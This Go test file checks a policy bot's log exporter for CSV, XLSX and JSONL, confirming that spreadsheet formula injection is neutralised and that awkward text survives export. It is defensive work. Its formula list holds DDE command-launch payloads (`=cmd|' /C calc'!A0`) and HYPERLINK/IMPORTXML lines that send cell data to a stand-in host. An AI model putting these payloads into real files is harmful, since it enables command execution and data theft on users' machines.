package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"iter"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"policybot/bot/journal"
)

// formulas are payloads that spreadsheets have been attacked with.
var formulas = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1)`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://x.example?a="&A1,"click")`, `+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, "\u200b=1+1", "\ufeff=1+1", "　=1+1",
	`＝1+1`, `＋1`, `－1`, `＠SUM(1)`, `=IMPORTXML("http://x.example","//a")`, `=DDE("cmd";"/C calc";"x")`, "-1\n=2", `=";=1+1;"`,
}

// hostile are strings that break programs, 300 of them and more.
func hostile() []string {
	list := slices.Clone(formulas)
	list = append(list, "", " ", "'", `"`, `""`, `a"b`, "a,b", "a;b", "a\nb", "a\r\nb", "a\rb", "\n", "\r\n", "_x000D_", "_x0041_", "_x005F_x0041_", "_X0041_",
		"]]>", "<![CDATA[x]]>", "<b>&amp;</b>", "&#x0;", "<!--", "<?xml?>", "\xff", "a\xc3", "\xed\xa0\x80", "é", "e\u0301", "👩‍👩‍👧", "\u202eabc", "\u202e", "0", "007",
		"1e5", "TRUE", "2026-11-22", "NULL", "#REF!", strings.Repeat("长", 40_000), strings.Repeat("😀", 20_000), strings.Repeat("=", 33_000), "  x  ", "\u00a0x", "\u0085x")
	for r := range rune(0xA0) {
		list = append(list, "a"+string(r)+"b")
	}
	for _, r := range []rune{0xFFFD, 0xFFFE, 0xFFFF, 0x10FFFF, 0x1FFFE, 0xE000, 0x2028, 0x2029, 0xFEFF, 0x200B} {
		list = append(list, string(r), "a"+string(r)+"b")
	}
	for _, f := range formulas {
		list = append(list, `"`+f, f+`"`, "a\n"+f)
	}
	return list
}

// rowsOf gives a row for each text, which is its question.
func rowsOf(texts []string) iter.Seq2[Row, error] {
	return func(yield func(Row, error) bool) {
		for _, text := range texts {
			if !yield(Row{ID: "q", Question: text, MsTotal: 1.5, Attempts: -1}, nil) {
				return
			}
		}
	}
}

// written writes rows in a format.
func written(t *testing.T, f Format, rows iter.Seq2[Row, error], keys ...string) []byte {
	t.Helper()
	columns, err := Columns("zh", keys...)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Write(&b, f, columns, rows); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// A xlsxCell is a cell of a sheet.
type xlsxCell struct {
	Type    string    `xml:"t,attr"`
	Formula *struct{} `xml:"f"`
	Value   string    `xml:"v"`
	Text    string    `xml:"is>t"`
}

var escaped = regexp.MustCompile(`_x([0-9A-Fa-f]{4})_`)

// shown is what a spreadsheet shows of a cell.
func (c xlsxCell) shown() string {
	if c.Type != "inlineStr" {
		return c.Value
	}
	return escaped.ReplaceAllStringFunc(c.Text, func(s string) string {
		n, _ := strconv.ParseUint(s[2:6], 16, 32)
		return string(rune(n))
	})
}

// sheets reads the cells of a workbook.
func sheets(t *testing.T, file []byte) [][][]xlsxCell {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	var all [][][]xlsxCell
	for n := 1; ; n++ {
		f, err := z.Open(path.Join("xl/worksheets", fmt.Sprintf("sheet%d.xml", n)))
		if err != nil {
			return all
		}
		text, err := io.ReadAll(f)
		if err != nil {
			t.Fatal(err)
		}
		var sheet struct {
			Rows []struct {
				Cells []xlsxCell `xml:"c"`
			} `xml:"sheetData>row"`
		}
		if err := xml.Unmarshal(text, &sheet); err != nil {
			t.Fatal(err)
		}
		var rows [][]xlsxCell
		for _, r := range sheet.Rows {
			rows = append(rows, r.Cells)
		}
		all = append(all, rows)
	}
}

func TestFormulas(t *testing.T) {
	got, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(written(t, CSV, rowsOf(formulas), "question"), []byte(byteOrderMark)))).ReadAll()
	if err != nil || len(got) != len(formulas)+1 {
		t.Fatalf("%d rows, %v", len(got), err)
	}
	for i, f := range formulas {
		if cell := got[i+1][0]; cell != "'"+Clean(f) {
			t.Errorf("CSV of %q: %q is not guarded", f, cell)
		}
	}
	rows := sheets(t, written(t, XLSX, rowsOf(formulas), "question"))[0]
	for i, f := range formulas {
		cell := rows[i+1][0]
		if cell.Type != "inlineStr" || cell.Formula != nil || cell.shown() != Clean(f) {
			t.Errorf("XLSX of %q: %+v, want an inline string", f, cell)
		}
	}
	if text := written(t, XLSX, rowsOf(formulas)); bytes.Contains(text, []byte("<f>")) {
		t.Error("XLSX holds a formula")
	}
}

// TestHostile: each text comes back as it was, or with a sign where it was changed.
func TestHostile(t *testing.T) {
	list := hostile()
	if len(list) < 300 {
		t.Fatalf("%d strings", len(list))
	}
	got, err := csv.NewReader(bytes.NewReader(written(t, CSV, rowsOf(list), "id", "question"))).ReadAll()
	if err != nil || len(got) != len(list)+1 {
		t.Fatalf("%d rows of CSV, %v", len(got), err)
	}
	rows := sheets(t, written(t, XLSX, rowsOf(list), "id", "question"))[0]
	lines := bytes.Split(bytes.TrimSpace(written(t, JSONL, rowsOf(list))), []byte("\n"))
	if len(rows) != len(list)+1 || len(lines) != len(list) {
		t.Fatalf("%d rows of XLSX, %d lines of JSON", len(rows), len(lines))
	}
	for i, text := range list {
		want := Clean(text)
		if cell := got[i+1][1]; cell != want && cell != "'"+want {
			t.Errorf("CSV of %.60q: %.60q", text, cell)
		}
		cell := rows[i+1][1].shown()
		if cut, short := strings.CutSuffix(cell, "…"); cell != want && (!short || !strings.HasPrefix(want, cut)) {
			t.Errorf("XLSX of %.60q: %.60q", text, cell)
		}
		var row Row
		if err := json.Unmarshal(lines[i], &row); err != nil || row.Question != strings.ToValidUTF8(text, "\ufffd") && utf8.ValidString(text) {
			t.Errorf("JSON of %.60q: %.60q, %v", text, row.Question, err)
		}
	}
}

func TestClean(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "a\tb\n": "a\tb\n", "a\r\nb\rc": "a\nb\nc", "\x00": "\ufffd", "a\x1fb": "a\ufffdb", "\xffa": "\ufffda", "\ufffe": "\ufffd", "😀": "😀",
	} {
		if got := Clean(text); got != want {
			t.Errorf("Clean(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestFit(t *testing.T) {
	for _, tt := range []struct {
		text  string
		units int
	}{
		{strings.Repeat("a", MostUnits), MostUnits},
		{strings.Repeat("长", MostUnits), MostUnits},
		{strings.Repeat("长", MostUnits+1), MostUnits},
		{strings.Repeat("😀", MostUnits/2), MostUnits - 1},
		{strings.Repeat("😀", MostUnits), MostUnits},
		{"a" + strings.Repeat("😀", MostUnits), MostUnits - 1},
	} {
		got := Fit(tt.text)
		units := 0
		for _, r := range got {
			units += utf8.RuneLen(r) / 4
			units++
		}
		if units != tt.units || (got != tt.text) != strings.HasSuffix(got, "…") {
			t.Errorf("Fit of %d bytes has %d units, want %d, and ends in %q", len(tt.text), units, tt.units, got[len(got)-4:])
		}
	}
}

func FuzzGuard(f *testing.F) {
	for _, text := range hostile() {
		if len(text) < 100 {
			f.Add(text)
		}
	}
	f.Fuzz(func(t *testing.T, text string) {
		got := Guard(text)
		if !utf8.ValidString(got) || strings.ContainsFunc(got, illegal) || strings.Contains(got, "\r") {
			t.Fatalf("Guard(%q) = %q is not clean", text, got)
		}
		if first, _ := utf8.DecodeRuneInString(strings.TrimSpace(got)); got != "" && strings.ContainsRune("=+-@＝＋－＠", first) {
			t.Fatalf("Guard(%q) = %q begins like a formula", text, got)
		}
		if strings.TrimPrefix(got, "'") != strings.TrimPrefix(Clean(text), "'") {
			t.Fatalf("Guard(%q) = %q changes more than its beginning", text, got)
		}
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		w.UseCRLF = true
		if err := w.WriteAll([][]string{{"x", got}}); err != nil {
			t.Fatal(err)
		}
		back, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(back) != 1 || back[0][1] != got {
			t.Fatalf("%q came back as %q, %v", got, back, err)
		}
	})
}

func TestSheets(t *testing.T) {
	s := newXLSX("")
	s.most = 3
	columns, err := Columns("en", "id", "attempts")
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := s.write(&b, columns, rowsOf([]string{"a", "b", "c", "d", "e"})); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, rows := range sheets(t, b.Bytes()) {
		for _, cells := range rows {
			got = append(got, cells[0].shown()+" "+cells[1].shown()+cells[1].Type)
		}
	}
	heading := "ID AttemptsinlineStr"
	if want := []string{heading, "q -1", "q -1", heading, "q -1", "q -1", heading, "q -1"}; !slices.Equal(got, want) {
		t.Errorf("rows %q, want %q", got, want)
	}
}

func TestRow(t *testing.T) {
	at := time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC)
	q := journal.Question{ID: "q1", AcceptedAt: at, AnsweredAt: at, Channel: "http", Outcome: "answered", Text: "问题", Answer: json.RawMessage(`{
		"lang": "zh", "mode": "extractive", "text": "回答", "ms": {"total": 1.5}, "citations": [
		{"quote": "引文", "clause": {"id": "a.1", "path": "三/(四)", "document": {"title": "办法", "number": "厦府办〔2020〕57号", "version": 2}}}]}`)}
	row := RowOf(q, func(outcome, mode string) string { return outcome + "/" + mode })
	row.Rate(journal.Rating{Good: true, Reason: "fast"})
	file := string(written(t, CSV, func(yield func(Row, error) bool) { yield(row, nil) }, "id", "accepted_at", "closed_at", "label", "citations", "cited", "ms_total", "rating"))
	want := byteOrderMark + "编号,收到时间,送达时间,AI 标识,引用条款编号,引用条款,用时（毫秒）,评价\r\n" +
		"q1,2026-11-22T08:00:00Z,,answered/extractive,a.1@2,[1] 《办法》 厦府办〔2020〕57号 三/(四)：“引文”,1.5,good\r\n"
	if file != want {
		t.Errorf("CSV is\n%s\nwant\n%s", file, want)
	}
	if odd := RowOf(journal.Question{ID: "q2", Answer: json.RawMessage(`[`)}, func(_, _ string) string { return "notice" }); odd.ID != "q2" || odd.Cited != nil {
		t.Errorf("row of an answer that is none: %+v", odd)
	}
}

func TestErrors(t *testing.T) {
	columns, err := Columns("en")
	if err != nil {
		t.Fatal(err)
	}
	broken := errors.New("broken")
	rows := func(yield func(Row, error) bool) {
		if yield(Row{}, nil) && yield(Row{}, broken) {
			t.Error("rows are read on after an error")
		}
	}
	for _, f := range []Format{CSV, JSONL, XLSX} {
		if err := Write(io.Discard, f, columns, rows); !errors.Is(err, broken) {
			t.Errorf("%s of rows that break: %v", f, err)
		}
		if err := Write(full{}, f, columns, rowsOf(hostile())); !errors.Is(err, errFull) {
			t.Errorf("%s to what is full: %v", f, err)
		}
	}
	if err := Write(io.Discard, "pdf", columns, rows); err == nil {
		t.Error("an unknown format: no error")
	}
	if _, err := Columns("en", "id", "password"); err == nil {
		t.Error("an unknown column: no error")
	}
}

var errFull = errors.New("full")

// full takes nothing.
type full struct{}

func (full) Write([]byte) (int, error) { return 0, errFull }

func TestNames(t *testing.T) {
	day := time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)
	for _, f := range []Format{CSV, JSONL, XLSX} {
		if got, want := FileName(f, day), "policybot-log-2026-11-22."+string(f); got != want || f.MediaType() == "" {
			t.Errorf("file %q of %q, want %q", got, f.MediaType(), want)
		}
	}
	if got := FileName("../x", day); got != "policybot-log-2026-11-22" {
		t.Errorf("file %q", got)
	}
	zh, err := Columns("zh")
	if err != nil {
		t.Fatal(err)
	}
	en, err := Columns("en")
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for i := range zh {
		if seen[zh[i].Heading] || seen[en[i].Heading] || zh[i].Heading == en[i].Heading {
			t.Errorf("headings %q and %q", zh[i].Heading, en[i].Heading)
		}
		seen[zh[i].Heading], seen[en[i].Heading] = true, true
	}
}

// TestTemporary wants the temporary files of XLSX in the folder that is given, for this user alone, and none left whatever
// happens.
func TestTemporary(t *testing.T) {
	columns, err := Columns("en")
	if err != nil {
		t.Fatal(err)
	}
	system := t.TempDir()
	t.Setenv("TMPDIR", system)
	files := func(folder string) int {
		list, err := os.ReadDir(folder)
		if err != nil {
			t.Fatal(err)
		}
		return len(list)
	}
	broken := errors.New("broken")
	for name, tt := range map[string]struct {
		given bool
		ends  error
		w     io.Writer
	}{
		"given":                  {given: true, w: io.Discard},
		"given, rows that break": {given: true, ends: broken, w: io.Discard},
		"given, a full disk":     {given: true, w: full{}},
		"the system's":           {w: io.Discard},
		"the system's, broken":   {ends: broken, w: io.Discard},
	} {
		folder, given := system, ""
		if tt.given {
			folder = filepath.Join(t.TempDir(), "tmp")
			given = folder
		}
		most := 0
		err := WriteIn(given, tt.w, XLSX, columns, func(yield func(Row, error) bool) {
			for n := range 300 { // more than is kept in memory
				if !yield(Row{ID: strconv.Itoa(n), Text: strings.Repeat("补贴", 10_000), Question: strings.Repeat("问", 20_000)}, nil) {
					return
				}
				most = max(most, files(folder))
			}
			if tt.ends != nil {
				yield(Row{}, tt.ends)
			}
		})
		if (err != nil) != (tt.ends != nil || tt.w == full{}) {
			t.Errorf("%s: %v", name, err)
		}
		if most != 1 || files(folder) != 0 || tt.given && files(system) != 0 {
			t.Errorf("%s: %d temporary files, %d left", name, most, files(folder))
		}
		if info, err := os.Stat(folder); err != nil || tt.given && info.Mode().Perm() != 0o700 {
			t.Errorf("%s: the folder is %v, %v", name, info.Mode(), err)
		}
	}
}
